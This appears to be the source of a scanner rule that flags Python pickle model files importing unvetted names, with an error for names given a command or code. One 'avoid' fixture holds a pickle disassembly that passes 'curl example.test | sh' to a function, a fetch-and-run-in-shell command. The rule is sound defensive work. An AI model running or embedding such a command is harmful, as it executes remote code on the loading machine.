import { defineRule } from '../rule.ts';
import { conversionFixes, importPlace, isAllowed, isToldByTarget, isGivenCommand, spelled } from './importWords.ts';
import { judgeImport } from './knownImports.ts';

export const unknownImport = defineRule({
  subject: 'pickle',
  meta: {
    id: 'pickle/unknown-import',
    title: 'The pickle reaches for something that nobody has vetted',
    severity: 'warning',
    description:
      "Loading the file looks up a name that is neither known to be harmless (the vetted names of PyTorch, NumPy, SciPy, joblib, scikit-learn, pandas, XGBoost, LightGBM, transformers and others) nor known to be dangerous: a class of your own, of a library that is not listed, or an attacker's next idea. It is an error when the name is called with a shell command or with Python code.",
    why: 'Lists of dangerous names are always incomplete: more than a hundred gadgets were found in ordinary libraries in one study. What is not vetted is therefore told.',
    howToFix:
      'If the class is yours, allow it in `weighbridge.yaml`: `allow-imports: [mypackage.models.*]`. For weights, save the state dict as safetensors, which needs no classes at all.',
    avoid: [
      {
        file: 'model.pkl',
        pickle: 'PROTO 2\nGLOBAL mypackage.models Net\nEMPTY_TUPLE\nNEWOBJ\nSTOP',
        note: 'Whoever controls `mypackage` on the loading machine decides what runs.',
      },
      {
        file: 'job.pkl',
        pickle: "PROTO 2\nGLOBAL somelibrary.tools perform\nBINUNICODE 'curl example.test | sh'\nTUPLE1\nREDUCE\nSTOP",
        note: 'What `perform` does with a command need not be known.',
      },
    ],
    prefer: [{ file: 'model.pkl', pickle: 'PROTO 2\nGLOBAL numpy dtype\nSTOP' }],
    references: [
      {
        title: 'The Art of Hide and Seek: Making Pickle-Based Model Supply Chain Poisoning Stealthy Again',
        url: 'https://arxiv.org/abs/2508.19774',
      },
    ],
    cwe: [502],
    atlas: ['AML.T0011.000'],
    owasp: ['ML06:2023'],
    nistAiRmf: ['MEASURE 2.7', 'MAP 4.1'],
    euAiAct: ['Article 15(5)'],
    since: '0.1.0',
  },
  check(part, report, artifact) {
    for (const entry of part.imports) {
      if (entry.state !== 'constant' || entry.module === null || entry.name === null) continue;
      if (judgeImport(entry).tier !== 'unknown' || isAllowed(entry, artifact) || isToldByTarget(entry)) continue;
      if (isGivenCommand(entry) && part.context !== 'hidden') {
        report({
          message: `Loading it calls ${entry.call}, which is not among the vetted names and is given a command or code. Do not load this file.`,
          severity: 'error',
          ...importPlace(part, entry),
          fixes: conversionFixes(artifact),
        });
        continue;
      }
      if (entry.byChance !== undefined) continue;
      const does = entry.called ? 'builds or calls' : 'imports';
      report({
        message: `Loading it ${does} ${spelled(entry)}, which is not among the vetted names. Allow it if it is yours; otherwise do not load this file.`,
        ...importPlace(part, entry),
        fixes: conversionFixes(artifact),
      });
    }
  },
});
